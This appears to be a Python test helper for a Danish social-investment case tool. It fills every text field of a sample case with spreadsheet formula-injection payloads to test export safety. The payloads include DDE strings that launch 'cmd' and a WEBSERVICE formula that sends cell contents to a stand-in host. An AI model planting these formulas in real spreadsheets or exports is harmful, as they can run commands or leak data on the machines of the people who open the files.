"""Cases with something hostile in every text they can hold, found by walking the model: a new field is in by itself.

Every field that takes text is given a payload, but for those that must name something there is (`REFERENCES`).
"""

from __future__ import annotations

import copy
import json
import types
import typing
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any, Literal, Union

from pydantic import BaseModel
from pydantic.fields import FieldInfo

from tovholder.case.model import Case
from tovholder.quantities import Duration, Quantity, Table

BASE: dict[str, Any] = {
    "tovholder": 1,
    "title": "Prøve",
    "start": 2027,
    "horizon": "3 years",
    "price_level": 2025,
    "price_index": "egen",
    "indices": {"egen": {"levels": {2024: 100, 2025: 103}, "kind": "own"}},
    "parties": {"fond": {"name": "Fonden", "sector": "investor"}},
    "departments": {"familie": {"name": "Familie"}, "unge": {"name": "Unge", "part_of": "familie"}},
    "assumptions": {"timepris": {"low": 400, "likely": 420, "high": 500, "unit": "kr/time", "price_level": 2024}},
    "tranches": {"hold": {"entrants": {"2027": 20}, "completion": "90 %"}},
    "costs": {
        "mentor": {"per_entrant": {"value": 30000, "unit": "kr"}, "paid_by": "familie"},
        "leder": {"fixed": {"by_date": {"2027": 1000, "2028": {"value": 2000}}, "unit": "kr"}, "paid_by": "unge"},
    },
    "outcomes": {
        "job": {
            "with": {"low": "40 %", "likely": "50 %", "high": "60 %"},
            "without": {"value": "20 %"},
            "times": {"optimisme": {"value": "90 %"}},
            "consequences": {
                "stoette": {"change": "-10 timer pr. måned", "price": "assumptions/timepris", "falls_on": "familie"},
                "glaede": {"change": {"value": 1, "unit": "år pr. år"}},
            },
        }
    },
    "scenarios": {"billig": {"changes": {"costs.mentor.per_entrant": "20000 kr"}}},
    "choice": {"pilot": {"of": "job", "people": 20}},
    "goals": {
        "handleplan": {"text": "Planen er nået", "paying": True, "shape": "per-unit", "success_rate": {"value": "60 %"},
                 "price": {"value": 20000, "unit": "kr/person"}, "denominator": "started"},
    },
    "correlations": [{"inputs": ["outcomes.job.with", "assumptions.timepris"], "rank": 0.3}],
    "contract": {
        "parties": {"fonden": {"name": "Fonden", "roles": "investor"}},
        "payers": "familie",
        "tranches": {"del_a": {"planned": 20}},
        "commitments": {"fonden": {"amount": 100000}},
        "caps": {"total": "1200000 kr"},
        "otherwise": {"law_change": {}, "early_stop": {}},
    },
}  # fmt: skip
"""A case with every part that has text in it; lists of parts are begun by the walk."""

REFERENCES = {
    "Case.price_index", "Cost.price_index", "Consequence.price_index", "Cost.counterparty", "Consequence.counterparty",
    "Department.part_of", "Cost.of", "Outcome.of", "Goal.of", "Goal.outcome", "Goal.requires", "Goal.saving_of",
    "Goal.index",
    "Pilot.of", "Choice.group", "Contract.receiver", "ContractTranche.of", "Commitment.tranches", "ReturnCap.requires",
    "Correlation.inputs", "Quantity.use",
}  # fmt: skip
"""Text that must be the name of something else. A new field that is one fails the test until it stands here."""
_NOT_BEGUN = {"OwnDiscount", "Schedule", "Sharing", "RuleUse", "Quantity", "Table", "Distribution"}
"""Parts without text of their own."""

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", " =", "  +", "\N{NO-BREAK SPACE}@", "==", "=-", "+-@", "＝")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://x.dk","klik")', 'IMPORTXML("http://x.dk";"//a")',
    'WEBSERVICE("http://x.dk/"&A1)', 'DDE("cmd";"/C calc";"x")', "'Forside'!A1", "A1", "$A$1:$B$2", "R1C1", "1E9",
    'INDIRECT("A1")', "{1+1}", '"x"', "'=1+1", ";=1+1", ",=1+1", "\n=1+1", "</t></is></c><c><f>1+1</f></c>", "&amp;",
    "TRUE", "_xlfn.LET(x,1,x)", "100%", "12-03-2027",
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """So many texts that a spreadsheet might run, no two alike."""
    tails = ("", " løn", "\t", "|x", "'", '"', ";1", "\\", "æøå", "%", "–", "€", "…", "()", "#")
    every = (start + body + tail for tail in tails for body in BODIES for start in STARTS)
    found = list(dict.fromkeys(every))[:count]
    assert len(found) == count
    return found


@dataclass
class HostileCase:
    """A case file's text, the payloads in it, and the fields (`Class.field`) that hold them."""

    text: str
    held: set[str]
    fields: set[str]


@dataclass
class _Walk:
    payloads: Iterator[str]
    held: set[str] = field(default_factory=set)
    fields: set[str] = field(default_factory=set)

    def model(self, model: type[BaseModel], node: dict[str, Any]) -> None:
        for name, info in model.model_fields.items():
            self.field(f"{model.__name__}.{name}", info, node, info.alias or name)

    def field(self, name: str, info: FieldInfo, node: dict[str, Any], key: str) -> None:
        for kind in _kinds(info.annotation):
            if kind is str and name not in REFERENCES:
                node[key] = self.next(name)
            elif kind == (tuple, str) and name not in REFERENCES:
                node[key] = [self.next(name)]
            elif isinstance(kind, type) and issubclass(kind, BaseModel):
                self.part(kind, node, key)
            elif isinstance(kind, tuple) and isinstance(kind[1], type) and issubclass(kind[1], BaseModel):
                self.parts(*kind, node, key)

    def next(self, name: str) -> str:
        text = next(self.payloads)
        self.held.add(text)
        self.fields.add(name)
        return text

    def part(self, kind: type[BaseModel], node: dict[str, Any], key: str) -> None:
        inside = node.get(key)
        if inside is None and kind.__name__ not in _NOT_BEGUN:
            inside = node[key] = self.least(kind)
        is_table = isinstance(inside, dict) and bool({"by_date", "by_year"} & inside.keys())
        if isinstance(inside, dict) and (kind not in (Quantity, Table) or (kind is Table) == is_table):
            self.model(kind, inside)

    def parts(self, holder: type, model: type[BaseModel], node: dict[str, Any], key: str) -> None:
        entries = node.get(key)
        if entries is None and holder is tuple and model.__name__ not in _NOT_BEGUN:
            entries = node[key] = [self.least(model)]
        for entry in entries.values() if isinstance(entries, dict) else entries or ():
            if isinstance(entry, dict):
                self.model(model, entry)

    def least(self, model: type[BaseModel]) -> dict[str, Any]:
        """What a part must have that is not text."""
        least: dict[str, Any] = {}
        for name, info in model.model_fields.items():
            if info.is_required():
                kinds = list(_kinds(info.annotation))
                options = [option for kind in kinds if isinstance(kind, list) for option in kind]
                least[info.alias or name] = options[0] if options else _LEAST.get(kinds[0], "2027-01-01")
        return least


_LEAST: dict[Any, Any] = {Quantity: 1, Duration: "1 year"}
"""What a field must hold that is neither text nor one of some choices; dates otherwise."""


def _kinds(annotation: Any) -> Iterator[Any]:
    """What a field may hold: plain types, (tuple, part), (dict, part), and a list of the options of a Literal."""
    origin = typing.get_origin(annotation)
    if origin is typing.Annotated:
        yield from _kinds(typing.get_args(annotation)[0])
    elif origin in (Union, types.UnionType):
        for option in typing.get_args(annotation):
            yield from _kinds(option)
    elif origin is Literal:
        yield list(typing.get_args(annotation))
    elif origin in (tuple, list):
        yield from ((tuple, kind) for kind in _kinds(typing.get_args(annotation)[0]) if not isinstance(kind, list))
    elif origin is dict:
        yield from ((dict, kind) for kind in _kinds(typing.get_args(annotation)[1]) if not isinstance(kind, list))
    elif isinstance(annotation, type):
        yield annotation


_IDS = (
    "familie",
    "unge",
    "fond",
    "hold",
    "mentor",
    "leder",
    "job",
    "stoette",
    "glaede",
    "handleplan",
    "billig",
    "del_a",
    "optimisme",
)
_NAMES_PLACES = ("correlations", "scenarios")
"""Parts that name a place such as `outcomes.job.with`, in which a name cannot hold a point."""


def hostile_case(given: Iterator[str], *, ids: bool = False) -> HostileCase:
    """The base case with a payload in every text; with `ids` also in place of the names things have in the file."""
    raw = copy.deepcopy(BASE)
    walk = _Walk(given)
    walk.model(Case, raw)
    if ids:
        names = dict(zip(_IDS, given, strict=False))
        walk.held |= set(names.values())
        raw = _renamed({part: raw[part] for part in raw if part not in _NAMES_PLACES}, names)
    return HostileCase(json.dumps(raw, ensure_ascii=False), walk.held, walk.fields)


def _renamed(node: Any, names: dict[str, str]) -> Any:
    if isinstance(node, dict):
        return {names.get(key, key): _renamed(value, names) for key, value in node.items()}
    if isinstance(node, list):
        return [_renamed(value, names) for value in node]
    return names.get(node, node) if isinstance(node, str) else node
